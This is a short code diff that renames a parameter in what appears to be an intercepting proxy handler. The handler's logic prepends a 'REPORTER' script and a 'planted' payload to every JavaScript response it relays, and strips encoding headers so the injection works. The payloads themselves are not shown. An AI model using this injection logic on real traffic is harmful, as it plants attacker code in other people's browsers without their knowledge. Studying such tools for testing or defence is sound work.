@@ -23,10 +23,10 @@ class ReportingMeeting(Meeting):
 
     server: "Hall"
 
-    def _through(self, asked: bytes) -> None:
-        if not asked.split(b" ", 2)[1].split(b"?")[0].endswith(b".js"):
-            return super()._through(asked)
-        head, _, body = self._answer(without(asked, b"accept-encoding:")).partition(b"\r\n\r\n")
+    def _through(self, http_request: bytes) -> None:
+        if not http_request.split(b" ", 2)[1].split(b"?")[0].endswith(b".js"):
+            return super()._through(http_request)
+        head, _, body = self._answer(without(http_request, b"accept-encoding:")).partition(b"\r\n\r\n")
         body = REPORTER + self.server.planted + body
         head = without(head, b"content-length:") + b"\r\nContent-Length: %d" % len(body)
         return self.request.sendall(head + b"\r\n\r\n" + body)
